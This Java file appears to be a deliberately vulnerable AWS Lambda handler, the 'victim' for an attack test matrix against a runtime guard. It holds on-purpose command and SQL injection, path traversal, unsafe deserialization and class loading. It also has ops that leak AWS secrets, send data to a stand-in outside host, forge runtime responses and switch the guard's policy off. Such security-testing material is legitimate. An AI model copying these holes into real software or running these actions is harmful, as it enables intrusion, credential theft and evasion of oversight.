package victim;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.RandomAccessFile;
import java.lang.invoke.MethodHandles;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLDecoder;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.lambda.LambdaClient;

/** Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses. */
public final class Handler {
    private static final Path DATA = Path.of("/var/task/data");
    private static final Path UPLOADS = Path.of("/tmp/uploads");

    private static volatile String requestId;

    public Map<String, Object> handle(Map<String, Object> event, com.amazonaws.services.lambda.runtime.Context context) {
        requestId = context.getAwsRequestId();
        try {
            String[] request = request(event);
            return answer(200, perform(request[0], request[1]));
        } catch (Throwable error) {
            return answer(500, "error: " + error.getClass().getSimpleName());
        }
    }

    /** In an order that is the same in every process. */
    private static Map<String, Object> answer(int status, String body) {
        Map<String, Object> made = new LinkedHashMap<>();
        made.put("statusCode", status);
        made.put("body", body);
        return made;
    }

    private static String call(String operation) throws IOException {
        String[] parts = operation.split(":");
        String address = "http://" + parts[0] + ".us-east-1.amazonaws.com:" + System.getenv("AWS_PORT");
        return switch (parts[1]) {
            case "Scan" -> new DynamoDbClient(address).scan();
            case "GetItem" -> new DynamoDbClient(address).getItem();
            case "UpdateFunctionCode" -> new LambdaClient(address).updateFunctionCode();
            default -> new LambdaClient(address).invoke();
        };
    }

    private static String perform(String op, String v) throws Exception {
        return switch (op) {
            case "shell", "cookie", "names", "parts" -> sh("echo report " + v);
            case "shell-twice" -> sh("echo report " + decode(decode(v)));
            case "shell-base32" -> sh("echo report " + base32(v));
            case "shell-reversed" -> sh("echo report " + new StringBuilder(v).reverse());
            case "launch" -> run(("/usr/bin/env " + v).split(" "));
            case "launch-own" -> run("/usr/bin/env", "CUSTOMER=" + v, "/bin/cat", DATA.resolve("words.txt").toString());
            case "keep" -> {
                byte[] content = Base64.getDecoder().decode(v);
                Files.write(Path.of("/tmp/kept.bin"), content);
                yield "kept " + content.length + " bytes";
            }
            case "resolver" -> sendDatagram("198.51.100.53:53");
            case "resolver-own" -> sendDatagram("127.0.0.53:53");
            case "page-link" -> "<html><body><a href='" + v + "'>Your site</a></body></html>";
            case "awk" -> run("/usr/bin/awk", "{print $0, \"" + v + "\"}", DATA.resolve("words.txt").toString());
            case "page" -> "<html><body><p>Dear " + v + "</p></body></html>";
            case "library" -> {
                Path file = Files.createTempFile("library", ".so"); // what is loaded already is not loaded again
                Files.write(file, Base64.getDecoder().decode(v));
                yield load(file);
            }
            case "library-own" -> load(DATA.resolve("library.so"));
            case "processes" -> run("/bin/sh", "/var/task/processes.sh");
            case "environ-list" -> sh("ps axeww");
            case "tar" -> {
                run("/bin/tar", "cf", "/tmp/out.tar", "-C", DATA.toString(), v, "words.txt");
                String head = new String(Files.readAllBytes(Path.of("/tmp/out.tar")), 0, 40, StandardCharsets.ISO_8859_1);
                yield head.startsWith("uid=") ? head : "archived";
            }
            case "read" -> text(DATA.resolve(v));
            case "read-base64" -> text(DATA.resolve(new String(Base64.getDecoder().decode(v), StandardCharsets.UTF_8)));
            case "sed" -> run("/bin/sed", "s/NAME/" + v + "/", DATA.resolve("words.txt").toString());
            case "cat" -> new String(Runtime.getRuntime().exec("/bin/cat " + v, null, DATA.toFile()).getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            case "untar" -> {
                Files.createDirectories(UPLOADS);
                Files.write(Path.of("/tmp/in.tar"), Base64.getDecoder().decode(v));
                run("/bin/tar", "xPf", "/tmp/in.tar", "-C", UPLOADS.toString());
                yield "unpacked " + text(UPLOADS.resolve(run("/bin/tar", "tPf", "/tmp/in.tar").strip()));
            }
            case "ld-so" -> {
                Files.copy(Path.of("/bin/cat"), Path.of("/tmp/dropped-cat"), StandardCopyOption.REPLACE_EXISTING);
                yield "it-read " + run("/lib64/ld-linux-x86-64.so.2", "/tmp/dropped-cat", DATA.resolve("words.txt").toString());
            }
            case "write" -> {
                Files.createDirectories(UPLOADS);
                yield write(UPLOADS.resolve(v), "x");
            }
            case "delete" -> {
                Files.createDirectories(UPLOADS);
                write(UPLOADS.resolve("old.txt"), "x");
                write(Path.of("/tmp/precious.txt"), "x");
                Files.delete(UPLOADS.resolve(v));
                yield "deleted";
            }
            case "fetch" -> get(v.contains("://") || v.startsWith("file:") ? v : "http://" + System.getenv("BACKEND") + "/" + v);
            case "connect" -> connect(v);
            case "connect-backend" -> connect(System.getenv("BACKEND"));
            case "connect-other" -> connect(System.getenv("OTHER"));
            case "lookup" -> lookup(v);
            case "deserialize" -> new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(v))).readObject().toString();
            case "unzip" -> unzip(v);
            case "postgresql" -> accounts(v, "disable");
            case "postgresql-tls" -> accounts(v, "require");
            case "datagram" -> sendDatagram(System.getenv("OTHER"));
            case "preload" -> {
                Files.copy(DATA.resolve("hook.so"), Path.of("/tmp/hook.so"), StandardCopyOption.REPLACE_EXISTING);
                ProcessBuilder child = new ProcessBuilder("/bin/sh", "/var/task/script.sh").redirectError(ProcessBuilder.Redirect.DISCARD);
                child.environment().put("LD_PRELOAD", "/tmp/hook.so");
                yield new String(child.start().getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            }
            case "first" -> {
                write(Path.of("/tmp/first.sh"), "echo loaded-it\n");
                ProcessBuilder child = new ProcessBuilder("/bin/bash", "-c", "true").redirectError(ProcessBuilder.Redirect.DISCARD);
                child.environment().put("BASH_ENV", "/tmp/first.sh");
                yield new String(child.start().getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            }
            case "hooked" -> {
                // A child that is told to load a file first: one that was dropped, or one of the package.
                Path agent = DATA.resolve("hooks/hook.jar");
                if (v.equals("dropped")) {
                    agent = Files.copy(agent, Path.of("/tmp/hook.jar"), StandardCopyOption.REPLACE_EXISTING);
                }
                ProcessBuilder child = new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-Xshare:auto", "-XX:TieredStopAtLevel=1", "-version").redirectError(ProcessBuilder.Redirect.DISCARD);
                child.environment().put("JAVA_TOOL_OPTIONS", "-javaagent:" + agent);
                yield new String(child.start().getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            }
            case "persist" -> {
                String done = leave("/usr/bin/tail", "-f", "/dev/null");
                try {
                    text(Path.of("/proc/self/environ"));
                } catch (IOException stopped) {
                    // it goes on without
                }
                yield done;
            }
            case "stay-shell" -> leave("/bin/sh", "-c", "read x");
            case "survivor" -> run("/bin/sh", "/var/task/survivor.sh");
            case "pause" -> {
                Thread.sleep(2500);
                yield "paused";
            }
            case "call" -> call(v);
            case "aws" -> get("http://" + v + ".us-east-1.amazonaws.com:" + System.getenv("AWS_PORT") + "/");
            case "mine" -> connect(System.getenv("POOL"));
            case "define" -> new Definer().define(Base64.getDecoder().decode(v));
            case "class-file" -> classFile("Sent", Base64.getDecoder().decode(v));
            case "class-file-own" -> classFile("Own", Files.readAllBytes(DATA.resolve("own.bin"))) + v;
            case "define-own" -> new Definer().define(Files.readAllBytes(DATA.resolve("own.bin")));
            case "define-lookup" -> MethodHandles.lookup().defineClass(Base64.getDecoder().decode(v)).getConstructor().newInstance().toString();
            case "define-hidden" -> hidden(Base64.getDecoder().decode(v));
            case "define-hidden-own" -> {
                // Lambdas that capture what reaches outside are the JDK's all the same.
                java.util.function.Supplier<Object> name = new ProcessBuilder(v)::command;
                yield hidden(Files.readAllBytes(DATA.resolve("own-hidden.bin"))) + name.get();
            }
            case "xml" -> DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(new ByteArrayInputStream(v.getBytes(StandardCharsets.UTF_8))).getDocumentElement().getTextContent();
            case "environ" -> text(Path.of("/proc/self/environ"));
            case "environ-link" -> link("/proc/self/environ");
            case "environ-child" -> sh("tr '\\0' '\\n' </proc/$PPID/environ");
            case "environ-cleared" -> run("/usr/bin/env", "-i", "/bin/sh", "-c", "tr '\\0' '\\n' </proc/$PPID/environ");
            case "memory" -> memory();
            case "link" -> link(DATA + "/words.txt");
            case "dropped" -> {
                Path file = Path.of("/tmp/dropped.sh");
                write(file, "#!/bin/sh\necho it-ran\n");
                Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
                yield run(file.toString());
            }
            case "job" -> {
                write(Path.of("/tmp/job.sh"), v);
                yield run("/bin/sh", "/tmp/job.sh");
            }
            case "job-own" -> {
                write(Path.of("/tmp/job.sh"), "#!/bin/sh\necho \"the nightly report for $1\"\n");
                yield run("/bin/sh", "/tmp/job.sh", v);
            }
            case "raw" -> run("/var/task/raw", v);
            case "variable" -> {
                ProcessBuilder child = new ProcessBuilder("/bin/bash", "-c", "cat " + DATA + "/words.txt").redirectError(ProcessBuilder.Redirect.DISCARD);
                child.environment().put(v.substring(0, v.indexOf('=')), v.substring(v.indexOf('=') + 1));
                yield new String(child.start().getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            }
            case "script" -> run("/bin/sh", "/var/task/script.sh");
            case "stop-runtime" -> sh("kill -STOP $PPID; kill -CONT $PPID && echo stopped-it");
            case "stop-own" -> sh("sleep 5 & kill -TERM $! && echo stopped-own");
            case "signal-guard" -> sh("for p in /proc/[0-9]*; do if tr '\\0' ' ' 2>/dev/null <$p/cmdline | grep -q '^/opt/extensions/pellicle'; then kill -CONT ${p#/proc/} && echo signalled the guard; fi; done");
            case "poll" -> api("GET", "next", "", System.getenv("AWS_LAMBDA_RUNTIME_API"));
            case "poll-upstream" -> api("GET", "next", "", upstream());
            case "answer" -> api("POST", "01234567-89ab-cdef-0123-456789abcdef/response", "stolen", System.getenv("AWS_LAMBDA_RUNTIME_API"));
            case "answer-current" -> api("POST", requestId + "/response", "\"stolen\"", System.getenv("AWS_LAMBDA_RUNTIME_API"));
            case "switch-runtime" -> {
                String[] address = System.getenv("AWS_LAMBDA_RUNTIME_API").split(":");
                yield run("/bin/bash", "/var/task/switch.sh", Long.toString(ProcessHandle.current().pid()), address[0], address[1], requestId);
            }
            case "leak" -> "leaked:" + System.getenv("AWS_SECRET_ACCESS_KEY");
            case "key-id" -> "role key id has " + System.getenv("AWS_ACCESS_KEY_ID").length() + " characters";
            case "poison" -> {
                Files.createDirectories(Path.of("/tmp/.pellicle"));
                yield write(Path.of("/tmp/.pellicle/policy.json"), "{\"schemaVersion\":1,\"mode\":\"off\"}");
            }
            case "note" -> write(Path.of("/tmp/note.txt"), "x");
            case "uname" -> run("/bin/uname");
            case "background" -> {
                new ProcessBuilder("/bin/sleep", "30").start();
                yield "left behind";
            }
            case "sleepers" -> sh("cat /proc/[0-9]*/stat 2>/dev/null | grep -c '(sleep) [^Z]'");
            case "dump" -> "row,password\n".repeat(20000);
            case "none" -> "nothing";
            default -> throw new IllegalArgumentException(op);
        };
    }

    private static String load(Path library) throws IOException {
        Files.deleteIfExists(Path.of("/tmp/loaded.txt"));
        System.load(library.toString());
        return text(Path.of("/tmp/loaded.txt"));
    }

    private static String hidden(byte[] bytes) throws ReflectiveOperationException {
        return MethodHandles.lookup().defineHiddenClass(bytes, true).lookupClass().getConstructor().newInstance().toString();
    }

    /** Loads it from a file, as plug-ins are. */
    private static String classFile(String name, byte[] bytes) throws IOException, ReflectiveOperationException {
        Path folder = Files.createDirectories(Path.of("/tmp/classes"));
        Files.write(folder.resolve(name + ".class"), bytes);
        try (var loader = new java.net.URLClassLoader(new java.net.URL[] {folder.toUri().toURL()})) {
            return loader.loadClass(name).getConstructor().newInstance().toString();
        }
    }

    /** Loads what it is given. */
    private static final class Definer extends ClassLoader {
        String define(byte[] bytes) throws ReflectiveOperationException {
            return defineClass(null, bytes, 0, bytes.length).getConstructor().newInstance().toString();
        }
    }

    private static final List<Process> LEFT = new ArrayList<>();

    /** Leaves a process behind that waits for input. */
    private static String leave(String... argv) throws IOException {
        Process left = new ProcessBuilder(argv).start();
        LEFT.add(left);
        Files.createDirectories(UPLOADS);
        write(UPLOADS.resolve("left.pid"), left.pid() + "\n");
        return "left behind";
    }

    private static String sh(String command) throws IOException, InterruptedException {
        return run("/bin/sh", "-c", command);
    }

    private static String run(String... argv) throws IOException, InterruptedException {
        Process process = new ProcessBuilder(argv).redirectError(ProcessBuilder.Redirect.DISCARD).start();
        String text = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        process.waitFor();
        return text;
    }

    private static String text(Path path) throws IOException {
        return new String(Files.readAllBytes(path), StandardCharsets.UTF_8);
    }

    private static String write(Path path, String content) throws IOException {
        Files.writeString(path, content);
        return "written " + path;
    }

    private static String get(String address) throws Exception {
        var connection = URI.create(address).toURL().openConnection();
        connection.setReadTimeout(2000);
        try (var in = connection.getInputStream()) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static String connect(String target) throws IOException {
        String[] parts = target.split(":");
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(parts[0], Integer.parseInt(parts[1])), 500);
            return "connected";
        }
    }

    /** Trusts the names in an archive. */
    private static String accounts(String name, String encryption) throws Exception {
        Class.forName("org.postgresql.Driver");
        try (var db = java.sql.DriverManager.getConnection("jdbc:postgresql://" + System.getenv("DATABASE") + "/postgres?sslmode=" + encryption, "postgres", "");
                var statement = db.createStatement();
                var rows = statement.executeQuery("select password from users where name='" + name + "'")) {
            var found = new java.util.ArrayList<String>();
            while (rows.next()) found.add(rows.getString(1));
            return found.toString();
        }
    }

    private static String unzip(String archive) throws IOException {
        Files.createDirectories(UPLOADS);
        StringBuilder paths = new StringBuilder("unpacked");
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(archive)))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                Path path = UPLOADS.resolve(entry.getName()).normalize();
                write(path, new String(zip.readAllBytes(), StandardCharsets.UTF_8));
                paths.append(' ').append(path);
            }
        }
        return paths.toString();
    }

    private static String sendDatagram(String target) throws IOException {
        String[] parts = target.split(":");
        byte[] found = "what was found".getBytes(StandardCharsets.UTF_8);
        try (DatagramSocket socket = new DatagramSocket()) {
            try {
                socket.send(new DatagramPacket(found, found.length, new InetSocketAddress(parts[0], Integer.parseInt(parts[1]))));
            } catch (java.net.NoRouteToHostException | java.net.ConnectException none) {
                // This machine has no way there.
            }
            return "sent";
        }
    }

    private static String lookup(String name) {
        try {
            return "found " + InetAddress.getByName(name).getHostAddress();
        } catch (UnknownHostException error) {
            return "looked up, nothing found";
        }
    }

    private static String link(String target) throws IOException {
        Path path = Path.of("/tmp/innocent");
        Files.deleteIfExists(path);
        Files.createSymbolicLink(path, Path.of(target));
        return text(path);
    }

    private static String memory() throws IOException {
        String line = Files.readAllLines(Path.of("/proc/self/maps")).stream().filter(l -> l.contains("[heap]")).findFirst().orElseThrow();
        try (RandomAccessFile file = new RandomAccessFile("/proc/self/mem", "r")) {
            file.seek(Long.parseUnsignedLong(line.split("-")[0], 16));
            return "read " + file.read(new byte[8]) + " bytes of memory";
        }
    }

    private static String api(String method, String route, String body, String address) throws IOException, InterruptedException {
        String[] parts = address.split(":");
        return run("/bin/bash", "/var/task/http.sh", parts[0], parts[1], method, "/2018-06-01/runtime/invocation/" + route, body);
    }

    private static String upstream() {
        String channel = System.getenv("PELLICLE_CHANNEL");
        return channel != null ? channel.split("/")[1] : System.getenv("AWS_LAMBDA_RUNTIME_API");
    }

    private static String[] request(Map<String, Object> event) {
        if (event.get("detail") != null) {
            return pair(at(event, "detail"));
        }
        if (event.get("Records") != null) {
            Map<String, Object> record = cast(((List<?>) event.get("Records")).get(0));
            if (record.get("s3") != null) {
                Map<String, Object> s3 = at(record, "s3");
                return new String[] {at(s3, "bucket").get("name").toString(), URLDecoder.decode(at(s3, "object").get("key").toString(), StandardCharsets.UTF_8)};
            }
            if (record.get("dynamodb") != null) {
                Map<String, Object> image = at(at(record, "dynamodb"), "NewImage");
                return new String[] {at(image, "op").get("S").toString(), at(image, "v").get("S").toString()};
            }
            if (record.get("body") != null) {
                return parse(record.get("body").toString());
            }
            return parse(record.get("Sns") != null ? at(record, "Sns").get("Message").toString() : decode(at(record, "kinesis").get("data").toString()));
        }
        if (event.get("queryStringParameters") != null) {
            Map<String, Object> query = at(event, "queryStringParameters");
            return switch (query.get("op").toString()) {
                case "cookie" -> new String[] {"cookie", URLDecoder.decode(((List<?>) event.get("cookies")).get(1).toString().split("=", 2)[1], StandardCharsets.UTF_8)};
                case "names" -> new String[] {"names", String.join(" ", query.keySet().stream().filter(name -> !name.equals("op")).toList())};
                // `{"parts":["a","b"]}`
                case "parts" -> new String[] {"parts", String.join(" ", texts(event.get("body").toString()).stream().skip(1).toList())};
                default -> query.containsKey("v") ? pair(query) : new String[] {query.get("op").toString(), upload(event)};
            };
        }
        String body = event.get("body").toString();
        return parse(Boolean.TRUE.equals(event.get("isBase64Encoded")) ? decode(body) : body);
    }

    /** What was sent as bytes, in base64: the body, or the file in a form behind its first field. */
    private static String upload(Map<String, Object> event) {
        String body = event.get("body").toString();
        String[] type = at(event, "headers").get("content-type").toString().split("boundary=");
        if (type.length < 2) {
            return body;
        }
        String part = new String(Base64.getDecoder().decode(body), StandardCharsets.ISO_8859_1).split("--" + type[1])[2];
        return Base64.getEncoder().encodeToString(part.substring(part.indexOf("\r\n\r\n") + 4, part.length() - 2).getBytes(StandardCharsets.ISO_8859_1));
    }

    private static String base32(String text) {
        StringBuilder decoded = new StringBuilder();
        int bits = 0;
        int held = 0;
        for (char c : text.replace("=", "").toCharArray()) {
            held = (held << 5 | "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".indexOf(c)) & 0xfff;
            bits += 5;
            if (bits >= 8) {
                bits -= 8;
                decoded.append((char) (held >> bits & 0xff));
            }
        }
        return decoded.toString();
    }

    private static String decode(String base64) {
        return new String(Base64.getDecoder().decode(base64), StandardCharsets.UTF_8);
    }

    private static String[] pair(Map<String, Object> from) {
        return new String[] {from.get("op").toString(), from.get("v").toString()};
    }

    private static Map<String, Object> at(Map<String, Object> map, String key) {
        return cast(map.get(key));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> cast(Object value) {
        return (Map<String, Object>) value;
    }

    /** An object of text members; the JDK has no JSON reader. */
    private static String[] parse(String json) {
        List<String> texts = texts(json);
        return new String[] {texts.get(texts.indexOf("op") + 1), texts.get(texts.indexOf("v") + 1)};
    }

    private static List<String> texts(String json) {
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < json.length(); i++) {
            if (json.charAt(i) != '"') {
                continue;
            }
            StringBuilder text = new StringBuilder();
            for (i++; json.charAt(i) != '"'; i++) {
                char c = json.charAt(i);
                if (c == '\\') {
                    c = json.charAt(++i);
                    if (c == 'u') {
                        c = (char) Integer.parseInt(json.substring(i + 1, i + 5), 16);
                        i += 4;
                    }
                }
                text.append(c);
            }
            texts.add(text.toString());
        }
        return texts;
    }
}
